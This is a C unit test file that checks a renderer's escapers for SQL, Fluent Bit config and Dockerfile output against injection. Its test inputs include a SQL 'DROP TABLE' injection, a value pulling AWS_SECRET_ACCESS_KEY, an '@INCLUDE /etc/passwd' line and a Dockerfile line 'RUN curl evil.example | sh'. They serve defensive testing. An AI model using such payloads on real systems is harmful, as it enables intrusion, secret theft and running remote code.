#include "lp_test.h"

#include "render/escape.h"

/* Runs escaper `e` on `in`; returns its result and leaves the output in `out`. */
static int esc(lp_buf *out, lp_escaper e, const char *in, const char **why)
{
	lp_buf_clear(out);
	*why = NULL;
	return lp_escape(out, e, in, strlen(in), why);
}

static void assert_escapes(lp_escaper e, const char *in, const char *want)
{
	lp_buf out = LP_BUF_INIT;
	const char *why;
	int rc = esc(&out, e, in, &why);
	if (rc != 0)
		fail_msg("%s refused '%s': %s", lp_escaper_name(e), in, why ? why : "?");
	assert_string_equal(out.ptr, want);
	lp_buf_release(&out);
}

/* Refused values append nothing and say why, mentioning `reason`. */
static void assert_refused(lp_escaper e, const char *in, size_t len, const char *reason)
{
	lp_buf out = LP_BUF_INIT;
	const char *why = NULL;
	lp_buf_puts(&out, "kept|");
	assert_int_equal(lp_escape(&out, e, in, len, &why), LP_ESCAPE_REFUSED);
	assert_string_equal(out.ptr, "kept|");
	assert_non_null(why);
	if (!strstr(why, reason))
		fail_msg("reason '%s' does not mention '%s'", why, reason);
	lp_buf_release(&out);
}

static void test_escape__html(void **state)
{
	(void)state;
	assert_escapes(LP_ESCAPE_HTML, "a & b < c > d \"e\" 'f'", "a &amp; b &lt; c &gt; d &quot;e&quot; 'f'");
	assert_escapes(LP_ESCAPE_HTML, "", "");
	assert_escapes(LP_ESCAPE_NONE, "<&>\n", "<&>\n");
}

/* Hive unescapes \\ and \' and drops a backslash before anything else. */
static void test_escape__sql_string_regex_with_quote_and_backslash(void **state)
{
	(void)state;
	assert_escapes(LP_ESCAPE_SQL_STRING, "^(\\d+) '([^']*)'$", "^(\\\\d+) \\'([^\\']*)\\'$");
	assert_escapes(LP_ESCAPE_SQL_STRING, "it's", "it\\'s");
	assert_escapes(LP_ESCAPE_SQL_STRING, "\\", "\\\\");
	assert_escapes(LP_ESCAPE_SQL_STRING, "s3://bucket/prefix/", "s3://bucket/prefix/");
	assert_escapes(LP_ESCAPE_SQL_STRING, "\"quoted\" \xe3\x83\xad\xe3\x82\xb0", "\"quoted\" \xe3\x83\xad\xe3\x82\xb0");
}

static void test_escape__sql_string_injection_attempts(void **state)
{
	(void)state;
	/* Closing the literal and appending DDL stays inside the literal. */
	assert_escapes(LP_ESCAPE_SQL_STRING, "x'); DROP TABLE t; --", "x\\'); DROP TABLE t; --");
	/* A trailing backslash must not escape the closing quote. */
	assert_escapes(LP_ESCAPE_SQL_STRING, "abc\\", "abc\\\\");
	assert_escapes(LP_ESCAPE_SQL_STRING, "line1\nline2\r\tx", "line1\\nline2\\r\\tx");
	assert_refused(LP_ESCAPE_SQL_STRING, "a\0b", 3, "NUL");
	assert_refused(LP_ESCAPE_SQL_STRING, "bell\a", 5, "control");
	assert_refused(LP_ESCAPE_SQL_STRING, "bad \xc3\x28 utf8", 11, "UTF-8");
	assert_refused(LP_ESCAPE_SQL_STRING, "\xed\xa0\x80", 3, "UTF-8"); /* a surrogate */
}

static void test_escape__sql_ident(void **state)
{
	char longname[257];
	(void)state;
	assert_escapes(LP_ESCAPE_SQL_IDENT, "latency_ms", "latency_ms");
	assert_escapes(LP_ESCAPE_SQL_IDENT, "_private", "_private");
	assert_escapes(LP_ESCAPE_SQL_IDENT, "Date2", "Date2");
	/* A back-quote in a column name is refused, not doubled. */
	assert_refused(LP_ESCAPE_SQL_IDENT, "col`, `evil", 11, "back-quote");
	assert_refused(LP_ESCAPE_SQL_IDENT, "a``b", 4, "back-quote");
	assert_refused(LP_ESCAPE_SQL_IDENT, "has space", 9, "letters, digits and underscores");
	assert_refused(LP_ESCAPE_SQL_IDENT, "dash-ed", 7, "letters, digits and underscores");
	assert_refused(LP_ESCAPE_SQL_IDENT, "a.b", 3, "letters");
	assert_refused(LP_ESCAPE_SQL_IDENT, "new\nline", 8, "letters");
	assert_refused(LP_ESCAPE_SQL_IDENT, "", 0, "empty");
	memset(longname, 'a', 256);
	longname[256] = '\0';
	assert_refused(LP_ESCAPE_SQL_IDENT, longname, 256, "255");
	longname[255] = '\0';
	assert_escapes(LP_ESCAPE_SQL_IDENT, longname, longname);
}

static void test_escape__flb_value(void **state)
{
	(void)state;
	assert_escapes(LP_ESCAPE_FLB_VALUE, "/ecs/shop/api", "/ecs/shop/api");
	assert_escapes(LP_ESCAPE_FLB_VALUE, "^(?<level>[A-Z]+) $", "^(?<level>[A-Z]+) $");
	assert_escapes(LP_ESCAPE_FLB_VALUE, "a\tb $x", "a\tb $x");
	assert_escapes(LP_ESCAPE_FLB_VALUE, "user@example", "user@example");
	assert_escapes(LP_ESCAPE_FLB_VALUE, "", "");
}

static void test_escape__flb_value_injection_attempts(void **state)
{
	(void)state;
	/* A newline in a log group name would start a new entry or section. */
	assert_refused(LP_ESCAPE_FLB_VALUE, "/ecs/shop\n[OUTPUT]\n    Name stdout", 34, "line break");
	assert_refused(LP_ESCAPE_FLB_VALUE, "/ecs/shop\r", 10, "line break");
	assert_refused(LP_ESCAPE_FLB_VALUE, "a\0b", 3, "NUL");
	/* ${ pulls environment variables into the value. */
	assert_refused(LP_ESCAPE_FLB_VALUE, "/ecs/${AWS_SECRET_ACCESS_KEY}", 29, "${");
	assert_refused(LP_ESCAPE_FLB_VALUE, "${HOME}", 7, "environment");
	/* after a key '@' is a character; at the start of a line the template renderer refuses it */
	assert_escapes(LP_ESCAPE_FLB_VALUE, "@timestamp", "@timestamp");
	assert_escapes(LP_ESCAPE_FLB_VALUE, "@INCLUDE /etc/passwd", "@INCLUDE /etc/passwd");
	assert_refused(LP_ESCAPE_FLB_VALUE, " padded", 7, "trims");
	assert_refused(LP_ESCAPE_FLB_VALUE, "padded\t", 7, "trims");
	assert_refused(LP_ESCAPE_FLB_VALUE, "esc\x1b[31m", 8, "control");
}

/* Image references and paths go through unchanged. */
static void test_escape__docker_word(void **state)
{
	(void)state;
	assert_escapes(LP_ESCAPE_DOCKER_WORD, "public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1",
		"public.ecr.aws/aws-observability/aws-for-fluent-bit:3.2.1");
	assert_escapes(LP_ESCAPE_DOCKER_WORD, "fluent-bit@sha256:0123abcd", "fluent-bit@sha256:0123abcd");
	assert_escapes(LP_ESCAPE_DOCKER_WORD, "/fluent-bit/config/logpipe.conf", "/fluent-bit/config/logpipe.conf");
}

static void test_escape__docker_word_injection_attempts(void **state)
{
	(void)state;
	/* A newline in an image name would add an instruction of its own. */
	assert_refused(LP_ESCAPE_DOCKER_WORD, "fluent-bit:3.2.1\nRUN curl evil.example | sh", 43, "line break");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "a b", 3, "blank");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "a\tb", 3, "blank");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "image:1\\", 8, "backslash");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "image:${TAG}", 12, "'$'");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "--platform=linux/arm64", 22, "flag");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "a\0b", 3, "control");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "esc\x1b[31m", 8, "control");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "", 0, "empty");
	assert_refused(LP_ESCAPE_DOCKER_WORD, "\xff", 1, "UTF-8");
}

static void test_escape__names(void **state)
{
	(void)state;
	assert_string_equal(lp_escaper_name(LP_ESCAPE_SQL_IDENT), "sql-ident");
	assert_string_equal(lp_escaper_context(LP_ESCAPE_FLB_VALUE), "a Fluent Bit value");
	assert_string_equal(lp_escaper_name(LP_ESCAPE_ATHENA_DDL), "athena-ddl");
	/* Without a template to read the context from, Athena DDL means a bare word. */
	assert_escapes(LP_ESCAPE_ATHENA_DDL, "col_1", "col_1");
	assert_refused(LP_ESCAPE_ATHENA_DDL, "a'b", 3, "letters");
	assert_string_equal(lp_escaper_name(LP_ESCAPE_DOCKER_WORD), "docker-word");
	assert_string_equal(lp_escaper_context(LP_ESCAPE_DOCKER_WORD), "a Dockerfile argument");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_escape__html),
		cmocka_unit_test(test_escape__sql_string_regex_with_quote_and_backslash),
		cmocka_unit_test(test_escape__sql_string_injection_attempts),
		cmocka_unit_test(test_escape__sql_ident),
		cmocka_unit_test(test_escape__flb_value),
		cmocka_unit_test(test_escape__flb_value_injection_attempts),
		cmocka_unit_test(test_escape__docker_word),
		cmocka_unit_test(test_escape__docker_word_injection_attempts),
		cmocka_unit_test(test_escape__names),
	};
	return cmocka_run_group_tests_name("escape", tests, NULL, NULL);
}
